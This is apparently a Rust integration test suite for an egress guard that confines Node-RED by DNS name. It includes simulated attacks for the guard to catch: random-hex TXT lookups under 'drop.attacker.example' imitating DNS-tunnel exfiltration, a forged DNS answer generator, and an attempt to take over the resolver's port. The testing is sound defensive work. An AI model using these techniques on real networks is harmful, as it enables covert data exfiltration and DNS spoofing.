//! Rules with names: what a name gave is reached, and nothing else.

use std::{
    fs, io,
    net::{IpAddr, Ipv4Addr, TcpListener, UdpSocket},
    process::{Command, Stdio},
    sync::Arc,
    thread,
    time::Duration,
};

use anyhow::{Context as _, Result, ensure};
use flowwarden_tests::{
    flows::Flow, guard::Guard, needs, netns::Network, node_red::Outcome, policy::Policy, receiver::dnsmasq::Dnsmasq,
    record::Record, scene::Scene, sink::Sink, wait,
};
use serde_json::{Value, json};

use crate::SCENE;

/// As systemd-resolved has it.
const STUB: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 53));
/// A resolver that no policy here declares unless it says so.
const STRANGER: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 77));
/// The host of this number in [`Network::FORBIDDEN_NET`].
fn host(number: u8) -> IpAddr {
    Ipv4Addr::new(203, 0, 113, number).into()
}

/// Where the C library of this machine looks names up.
pub(super) fn system_resolver() -> IpAddr {
    let text = fs::read_to_string("/etc/resolv.conf").unwrap_or_default();
    let named = text.lines().find_map(|line| line.strip_prefix("nameserver")?.trim().parse().ok());
    named.unwrap_or(Ipv4Addr::LOCALHOST.into())
}

pub(super) fn resolver(network: &Network) -> Result<Dnsmasq> {
    let system = system_resolver();
    if !system.is_loopback() {
        network.home.add_address(system)?;
    }
    let mut hosts: Vec<(String, IpAddr)> = Vec::new();
    for number in 10..200 {
        hosts.push((format!("h{number}.plant.example"), host(number)));
        hosts.push((format!("h{number}.plant.example"), format!("2001:db8::{number}").parse()?));
        // Too much for a datagram.
        hosts.push(("big.plant.example".to_owned(), host(number)));
    }
    hosts.extend((220..225).map(|number| ("round.plant.example".to_owned(), host(number))));
    hosts.push(("edge.cdn.example".to_owned(), host(230)));
    hosts.push(("attacker.example".to_owned(), host(231)));
    hosts.push(("plant.example".to_owned(), host(232)));
    hosts.push(("myplant.example".to_owned(), host(233)));
    hosts.push(("web.plant.example".to_owned(), Network::ALLOWED));
    // One name stands for another, which stands for a third.
    let aliases = [
        ("mqtt.example.com", "a.cdn.example"),
        ("a.cdn.example", "b.cdn.example"),
        ("b.cdn.example", "edge.cdn.example"),
    ];
    Dnsmasq::start(&network.home, &[STUB, system], &hosts, &aliases)
}

fn policy(scene: &Scene, resolvers: &[&str]) -> Policy {
    let policy = Policy::enforce(&scene.node_red).by_default("egress", "deny");
    let policy = if resolvers.is_empty() { policy } else { policy.resolvers(resolvers) };
    let system = system_resolver().to_string();
    policy.egress(&["loopback", &system], "allow", "resolver").egress(
        &["mqtt.example.com", "*.plant.example"],
        "allow",
        "names",
    )
}

/// What a script can use: `lookup` by c-ares, `reach` by connecting a datagram socket, `ask` by a question that it writes
/// itself.
const TOOLS: &str = "
const dgram = require('dgram'), dns = require('dns');
const resolver = new dns.promises.Resolver({ tries: 2, timeout: 3000 });
resolver.setServers(['127.0.0.53']);
const lookup = (name, kind = 'A') => resolver.resolve(name, kind).catch(error => error.code);
const reach = address => new Promise(done => {
    const socket = dgram.createSocket(address.includes(':') ? 'udp6' : 'udp4');
    socket.connect(4000, address, error => { socket.close(); done(error ? error.code : 'ok'); });
});
const question = name => Buffer.concat([Buffer.from('123401000001000000000000', 'hex'),
    ...name.split('.').map(label => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)])),
    Buffer.from('0000010001', 'hex')]);
const out = {};
";

/// Runs a script in Node.js as the instance, and gives back what it leaves in `out`.
fn node(scene: &Scene, script: &str) -> Result<Value> {
    let script = format!(
        "{TOOLS}(async () => {{ {script} }})().then(() => {{ console.log(JSON.stringify(out)); process.exit(0); }})"
    );
    let mut command = Command::new(needs::program("node")?);
    command.args(["-e", &script]).current_dir("/").stdin(Stdio::null()).stdout(Stdio::piped());
    let output = scene.node_red.confinement().spawn(&mut command)?.wait_with_output()?;
    serde_json::from_slice(&output.stdout).with_context(|| format!("{output:?}"))
}

fn under_guard(scene: &Scene, policy: &Policy, script: &str) -> Result<(Value, Vec<Record>)> {
    let guard = Guard::start(Some(policy), &scene.cgroup, &[])?;
    let out = node(scene, script)?;
    Ok((out, guard.stop()?))
}

#[test]
fn ten_thousand_names_are_reached_and_no_address_that_was_not_asked_for() -> Result<()> {
    let scene = Scene::empty()?;
    let _resolver = resolver(&scene.network)?;
    let script = "
        out.refused = [];
        let next = 0;
        const worker = async () => {
            while (next < 10000) {
                const number = next++;
                const name = `h${10 + number % 190}.plant.example`;
                const found = await lookup(name, number % 3 ? 'A' : 'AAAA');
                const came = Array.isArray(found) ? await reach(found[0]) : found;
                if (came !== 'ok') out.refused.push([name, found, came]);
            }
        };
        await Promise.all(Array.from({ length: 8 }, worker));
        out.unasked = [];
        for (let number = 200; number < 255; number++) out.unasked.push(await reach(`203.0.113.${number}`));";
    let (out, _) = under_guard(&scene, &policy(&scene, &["127.0.0.53"]), script)?;
    ensure!(out["refused"] == json!([]), "{}", out["refused"]);
    let unasked = out["unasked"].as_array().context("no list")?;
    ensure!(unasked.len() == 55 && unasked.iter().all(|came| came == "EPERM"), "{unasked:?}");
    Ok(())
}

#[test]
fn aliases_round_robin_and_long_answers_count_and_names_that_only_look_alike_do_not() -> Result<()> {
    let scene = Scene::empty()?;
    let _resolver = resolver(&scene.network)?;
    let script = "
        out.before = await reach('203.0.113.230');
        out.alias = await Promise.all((await lookup('MQTT.example.com')).map(reach));
        out.round = await Promise.all((await lookup('round.plant.example')).map(reach));
        out.big = await Promise.all((await lookup('big.plant.example')).map(reach));
        out.none = await lookup('none.plant.example');
        for (const name of ['attacker.example', 'plant.example', 'myplant.example', 'edge.cdn.example'])
            out[name] = await Promise.all((await lookup(name)).map(reach));";
    let (out, records) = under_guard(&scene, &policy(&scene, &["127.0.0.53"]), script)?;
    let all = |what: &str, count: usize, came: &str| {
        let list = out[what].as_array().cloned().unwrap_or_default();
        ensure!(list.len() == count && list.iter().all(|one| one == came), "{what}: {out}");
        Ok(())
    };
    ensure!(out["before"] == "EPERM" && out["none"] == "ENOTFOUND", "{out}");
    all("alias", 1, "ok")?;
    all("round", 5, "ok")?;
    for name in ["attacker.example", "plant.example", "myplant.example"] {
        all(name, 1, "EPERM")?;
        let reported =
            records.iter().any(|record| record.is_alert() && record.pointer_text("/dst_endpoint/hostname") == name);
        ensure!(reported, "no record names {name}: {records:#?}");
    }
    // An address that an allowed name gave is allowed by whatever other name.
    all("edge.cdn.example", 1, "ok")?;
    // It comes over TCP, since it is too long for a datagram.
    all("big", 190, "ok")?;
    Ok(())
}

#[test]
#[ignore = "takes half a minute: `cargo xtask test --only promises -- --ignored`"]
fn of_more_addresses_than_are_kept_the_last_are_reached_and_the_first_are_forgotten() -> Result<()> {
    /// What the kernel keeps is 16,384.
    const MANY: u32 = 20_000;
    let scene = Scene::empty()?;
    let address = |number: u32| IpAddr::from(std::net::Ipv6Addr::from(0x2001_0db8_u128 << 96 | u128::from(number)));
    let hosts: Vec<_> = (0..MANY).map(|number| (format!("n{number}.plant.example"), address(number))).collect();
    let _resolver = Dnsmasq::start(&scene.network.home, &[STUB], &hosts, &[])?;
    let script = format!(
        "out.refused = []; out.forgotten = 0;
        const address = number => `2001:db8::${{(number >> 16).toString(16)}}:${{(number & 65535).toString(16)}}`;
        let next = 0;
        const worker = async () => {{
            while (next < {MANY}) {{
                const number = next++;
                const found = await lookup(`n${{number}}.plant.example`, 'AAAA');
                const came = Array.isArray(found) ? await reach(found[0]) : found;
                if (came !== 'ok') out.refused.push([number, found, came]);
            }}
        }};
        await Promise.all(Array.from({{ length: 8 }}, worker));
        for (let number = 0; number < {MANY}; number++) if (await reach(address(number)) === 'EPERM') out.forgotten++;"
    );
    let (out, _) = under_guard(&scene, &policy(&scene, &["127.0.0.53"]), &script)?;
    ensure!(out["refused"] == json!([]), "{}", out["refused"]);
    let forgotten = out["forgotten"].as_u64().unwrap_or_default();
    ensure!((3_000..10_000).contains(&forgotten), "{forgotten} of {MANY} are forgotten");
    Ok(())
}

#[test]
#[ignore = "waits for more than five minutes: `cargo xtask test --only promises -- --ignored`"]
fn an_address_is_a_names_for_its_ttl_and_five_minutes_more_and_what_stands_stands() -> Result<()> {
    let scene = Scene::empty()?;
    // Answers may be kept for a second.
    let _resolver = resolver(&scene.network)?;
    let listener = scene.network.world.run(|| Ok(TcpListener::bind((Network::ALLOWED, 0))?))?;
    let port = listener.local_addr()?.port();
    let echo = thread::spawn(move || -> Result<u64> {
        let (mut stream, _) = listener.accept()?;
        Ok(io::copy(&mut stream.try_clone()?, &mut stream)?)
    });
    let script = format!(
        "const sleep = seconds => new Promise(done => setTimeout(done, seconds * 1000));
        const [address] = await lookup('web.plant.example');
        const socket = require('net').connect({port}, address);
        socket.on('error', error => {{ out.broken = error.code; }});
        const echo = text => new Promise(done => {{
            socket.once('data', data => done(String(data))).once('error', error => done(error.code)).write(text);
        }});
        out.fresh = [await echo('one'), await reach(address)];
        await sleep(295);
        out.kept = [await echo('two'), await reach(address)];
        await sleep(8);
        out.over = [await echo('three'), await reach(address)];
        await lookup('web.plant.example');
        out.again = await reach(address);
        socket.end();"
    );
    let (out, _) = under_guard(&scene, &policy(&scene, &["127.0.0.53"]), &script)?;
    let expected = json!({ "fresh": ["one", "ok"], "kept": ["two", "ok"], "over": ["three", "EPERM"], "again": "ok" });
    ensure!(out == expected, "{out}");
    echo.join().map_err(|_| anyhow::anyhow!("the echo panicked"))?.map(drop)
}

/// Answers every query with [`host`] 250.
fn forge(socket: &UdpSocket) -> Result<()> {
    let mut bytes = [0; 512];
    let (len, from) = socket.recv_from(&mut bytes)?;
    let mut answer = bytes.get(..len).context("no question")?.to_vec();
    answer[2..8].copy_from_slice(b"\x81\x80\x00\x01\x00\x01");
    answer.extend(b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\xcb\x00\x71\xfa");
    socket.send_to(&answer, from)?;
    Ok(())
}

#[test]
fn a_forged_answer_changes_nothing() -> Result<()> {
    let scene = Scene::empty()?;
    let _resolver = resolver(&scene.network)?;
    // One socket asks both: it is known to the guard by the first, and hears the second.
    let script = "
        const socket = dgram.createSocket('udp4');
        const answers = new Promise(done => socket.on('message', (message, from) => from.address === '127.0.0.77' && done()));
        socket.send(question('forged.plant.example'), 53, '127.0.0.53');
        setTimeout(() => socket.send(question('forged.plant.example'), 53, '127.0.0.77'), 300);
        await answers;
        out.came = await reach('203.0.113.250');";
    for (resolvers, came) in [(&["127.0.0.53"][..], "EPERM"), (&["127.0.0.53", "127.0.0.77"], "ok")] {
        let socket = scene.network.home.run(|| Ok(Arc::new(UdpSocket::bind((STRANGER, 53))?)))?;
        socket.set_read_timeout(Some(Duration::from_secs(30)))?;
        let forger = thread::spawn(move || forge(&socket));
        let (out, _) = under_guard(&scene, &policy(&scene, resolvers), script)?;
        forger.join().map_err(|_| anyhow::anyhow!("the forger panicked"))??;
        ensure!(out["came"] == came, "with {resolvers:?}: {out}");
    }
    Ok(())
}

#[test]
fn node_red_reaches_a_name_by_the_systems_resolver() -> Result<()> {
    SCENE.with(|scene| {
        let _resolver = resolver(&scene.network)?;
        let sink = Sink::tcp(&scene.network, Network::ALLOWED)?;
        // The resolvers of the machine are found without configuration.
        let policy = policy(scene, &[]);
        let port = sink.address().port();
        let named =
            scene.with_guard(&policy, "names", &Flow::http_get(&format!("http://web.plant.example:{port}/")))?;
        ensure!(named.outcome == Outcome::Answered("ok".to_owned()), "{named:#?}");
        let guarded = scene.with_guard(
            &policy,
            "default-egress",
            &Flow::http_get(&format!("http://attacker.example:{port}/")),
        )?;
        let alerts = guarded.alerts("default-egress");
        let reported = alerts.iter().any(|alert| alert.pointer_text("/dst_endpoint/hostname") == "attacker.example");
        ensure!(reported, "{guarded:#?}");
        Ok(())
    })
}

#[test]
fn data_in_questions_is_one_alarm_by_domain_and_look_ups_are_none() -> Result<()> {
    let scene = Scene::empty()?;
    let _resolver = resolver(&scene.network)?;
    // No rule allows the names that are looked up: nothing is passed over.
    let system = system_resolver().to_string();
    let policy =
        Policy::enforce(&scene.node_red).resolvers(&["127.0.0.53"]).egress(&["loopback", &system], "allow", "resolver");
    let script = "
        const random = () => require('crypto').randomBytes(20).toString('hex');
        const each = async (count, ask) => {
            let next = 0;
            const worker = async () => { while (next < count) await ask(next++); };
            await Promise.all(Array.from({ length: 8 }, worker));
        };
        await each(2000, number => lookup(`h${10 + number % 190}.plant.example`, number % 3 ? 'A' : 'AAAA'));
        await each(300, () => lookup(`${random()}.drop.attacker.example`, 'TXT'));";
    let guard = Guard::start(Some(&policy), &scene.cgroup, &[])?;
    node(&scene, script)?;
    guard.wait_for(wait::SOON, |record| record.rule() == "dns-tunnel" && record.is_alarm())?;
    let console = guard.console().clone();
    let records = guard.stop()?;
    let reported: Vec<_> = records.iter().filter(|record| record.is_alarm()).collect();
    ensure!(reported.iter().all(|record| record.rule() == "dns-tunnel"), "{reported:#?}");
    let [event] = reported.iter().filter(|record| record.hook() == "dns").collect::<Vec<_>>()[..] else {
        anyhow::bail!("not one event: {reported:#?}");
    };
    ensure!(event.pointer_text("/unmapped/domain") == "attacker.example", "{event:#?}");
    ensure!(event.number("/unmapped/names_long") == Some(50), "{event:#?}");
    ensure!(event.pointer_text("/actor/process/name") == "node", "{event:#?}");
    let incidents: Vec<_> = records.iter().filter(|record| record.number("/class_uid") == Some(2004)).collect();
    let begun: Vec<_> =
        incidents.iter().filter(|incident| incident.pointer_text("/activity_name") == "Create").collect();
    ensure!(begun.len() == 1 && begun[0].pointer_text("/attacks/0/sub_technique/uid") == "T1071.004", "{begun:#?}");
    let said = console.text();
    ensure!(
        said.contains("50 different names below attacker.example") && said.contains("*.attacker.example"),
        "{said}"
    );
    Ok(())
}

#[test]
fn a_flood_of_questions_is_read_up_to_a_bound_and_the_rest_is_counted() -> Result<()> {
    let scene = Scene::empty()?;
    let _resolver = resolver(&scene.network)?;
    let script = "
        const socket = dgram.createSocket('udp4');
        await new Promise(done => socket.connect(53, '127.0.0.53', done));
        const message = question('h10.plant.example');
        for (let number = 0; number < 5000; number++) await new Promise(done => socket.send(message, done));";
    let guard = Guard::start(Some(&policy(&scene, &["127.0.0.53"])), &scene.cgroup, &[])?;
    node(&scene, script)?;
    let reported = guard.wait_for(wait::SOON, |record| record.number("/unmapped/skipped").is_some())?;
    ensure!(reported.pointer_text("/activity_name") == "Loss", "{reported:#?}");
    guard.stop().map(drop)
}

#[test]
fn whoever_serves_the_resolvers_port_to_forge_answers_is_met() -> Result<()> {
    let scene = Scene::empty()?;
    // As Docker has it in its containers.
    scene.network.home.run(|| Ok(fs::write("/proc/sys/net/ipv4/ip_unprivileged_port_start", "0")?))?;
    // As `flowwarden init` writes it.
    let rule = "[[instance.ingress]]\nid = \"forged-names\"\nports = [53]\nverdict = \"deny\"\nfallback = \"kill\"\n\
                from = [\"any\", \"loopback\", \"private\", \"link-local\"]\n";
    let script = "
        const bind = port => new Promise(done => {
            const socket = dgram.createSocket('udp4');
            socket.on('error', error => done(error.code));
            socket.bind(port, '127.0.0.53', () => { socket.close(); done('ok'); });
        });
        out.other = await bind(5353);
        out.resolver = await bind(53);";
    let free = node(&scene, script)?;
    ensure!(free["resolver"] == "ok", "nothing is proved: {free}");
    let guard = Guard::start(Some(&policy(&scene, &[]).with(rule)), &scene.cgroup, &[])?;
    // Where the kernel cannot deny it dies of it.
    let out = node(&scene, script).unwrap_or_default();
    ensure!(out["resolver"] != "ok", "{out}");
    let records = guard.stop()?;
    let met: Vec<_> = records.iter().filter(|record| record.is_alarm()).collect();
    ensure!(!met.is_empty() && met.iter().all(|record| record.rule() == "forged-names"), "{met:#?}");
    ensure!(met.iter().all(|record| matches!(record.verdict(), "deny" | "kill")), "{met:#?}");
    Ok(())
}

#[test]
fn dockers_resolver_counts_for_an_instance_in_a_container() -> Result<()> {
    /// Where it really is; Docker takes one by lot.
    const EMBEDDED: u16 = 20_053;
    const OTHER: u16 = 20_054;
    let scene = Scene::empty()?;
    let docker = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 11));
    let home = &scene.network.home;
    home.redirect(docker, 53, EMBEDDED)?;
    // dnsmasq serves connections only where an interface has the address.
    home.add_address(docker)?;
    let mut hosts = vec![("h10.plant.example".to_owned(), host(10))];
    // Too much for a datagram.
    hosts.extend((20..200).map(|number| ("big.plant.example".to_owned(), host(number))));
    let _resolver = Dnsmasq::start_at(home, EMBEDDED, &[docker], &hosts, &[])?;
    // The same socket hears strangers: one at the port of resolvers, one at the address of this one.
    let script = format!(
        "resolver.setServers(['127.0.0.11']);
        const found = await lookup('h10.plant.example');
        out.came = Array.isArray(found) ? await reach(found[0]) : found;
        const all = await lookup('big.plant.example');
        out.big = Array.isArray(all) ? [...new Set(await Promise.all(all.map(reach)))] : all;
        const socket = dgram.createSocket('udp4');
        out.heard = [];
        const answers = new Promise(done => socket.on('message', (_, from) => {{
            out.heard.push(from.address + ':' + from.port);
            if (out.heard.length == 3) done();
        }}));
        const ask = (port, address) => new Promise(done => socket.send(question('forged.plant.example'), port, address, done));
        await ask(53, '127.0.0.11');
        await ask(53, '{STRANGER}');
        await ask({OTHER}, '127.0.0.11');
        await answers;
        out.heard.sort();
        out.forged = await reach('{}');",
        host(250)
    );
    let uid = scene.node_red.confinement().uid;
    let contained = policy(&scene, &[]).select(&format!("{{ uid = {uid} }}, {{ container = \"0123456789ab\" }}"));
    // A stranger that is declared is none: its answer does come in.
    let trusting = policy(&scene, &["127.0.0.11", "127.0.0.77"]);
    for (policy, came, forged) in
        [(policy(&scene, &[]), "EPERM", "EPERM"), (contained, "ok", "EPERM"), (trusting, "ok", "ok")]
    {
        let mut forgers = Vec::new();
        for at in [(STRANGER, 53), (docker, OTHER)] {
            let socket = home.run(|| Ok(UdpSocket::bind(at)?))?;
            socket.set_read_timeout(Some(Duration::from_secs(30)))?;
            forgers.push(thread::spawn(move || forge(&socket)));
        }
        let (out, _) = under_guard(&scene, &policy, &script)?;
        for forger in forgers {
            forger.join().map_err(|_| anyhow::anyhow!("a forger panicked"))??;
        }
        ensure!(out["came"] == came && out["big"] == json!([came]), "{out} with\n{}", policy.text());
        let heard = ["127.0.0.11:20054", "127.0.0.11:53", "127.0.0.77:53"];
        ensure!(out["heard"] == json!(heard) && out["forged"] == forged, "{out} with\n{}", policy.text());
    }
    Ok(())
}
